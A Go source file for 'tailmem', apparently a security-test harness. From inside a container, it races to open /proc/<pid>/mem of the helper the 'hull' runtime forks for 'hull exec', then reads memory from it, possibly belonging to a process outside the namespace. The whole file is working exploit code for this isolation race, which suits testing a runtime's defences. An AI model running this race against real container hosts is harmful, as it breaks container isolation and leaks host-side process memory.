// Command tailmem attacks the process hull forks into a container's pid namespace
// for `hull exec` (nsenter.ForkTail's child), from a process of the container with
// CAP_SYS_PTRACE: it predicts that process's pid (the namespace's next one), opens
// its /proc/<pid>/mem for reading and writing as soon as it exists, waits until it
// has exec'd the user's program, and then reads ADDR through the fd, which pins the
// memory it was opened on. What it reads there after the execve is the memory of
// whichever process still has that memory: with a vfork child, hull's own helper,
// outside the namespace. It prints opened=<exe at the open>, then post=<hex> or
// post-err=<error>, or missed/timeout. Built statically and copied into the rootfs.
//
// Usage: tailmem ADDR SECONDS
package main

import (
	"encoding/hex"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: tailmem ADDR SECONDS")
		os.Exit(2)
	}
	addr, err := strconv.ParseUint(os.Args[1], 0, 64)
	if err != nil {
		fmt.Fprintln(os.Stderr, "tailmem:", err)
		os.Exit(2)
	}
	secs, _ := strconv.Atoi(os.Args[2])
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	if err != nil {
		fmt.Fprintln(os.Stderr, "tailmem:", err)
		os.Exit(1)
	}
	next, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	next++
	mem, exe := fmt.Sprintf("/proc/%d/mem", next), fmt.Sprintf("/proc/%d/exe", next)
	fmt.Printf("waiting=%d\n", next)
	fd := -1
	for i := 0; fd < 0; i++ {
		fd, err = unix.Open(mem, unix.O_RDWR|unix.O_CLOEXEC, 0)
		if err != nil && err != unix.ENOENT {
			fmt.Printf("open-err=%v\n", err)
			return
		}
		if i%1024 == 0 && time.Now().After(deadline) {
			fmt.Println("timeout")
			return
		}
	}
	first, _ := os.Readlink(exe)
	fmt.Printf("opened=%s\n", first)
	for {
		now, err := os.Readlink(exe)
		if err != nil || now != first {
			break
		}
		if time.Now().After(deadline) {
			fmt.Println("timeout")
			return
		}
	}
	buf := make([]byte, 16)
	n, err := unix.Pread(fd, buf, int64(addr))
	if err != nil || n <= 0 {
		fmt.Printf("post-err=%d %v\n", n, err)
		return
	}
	fmt.Printf("post=%s\n", hex.EncodeToString(buf[:n]))
}
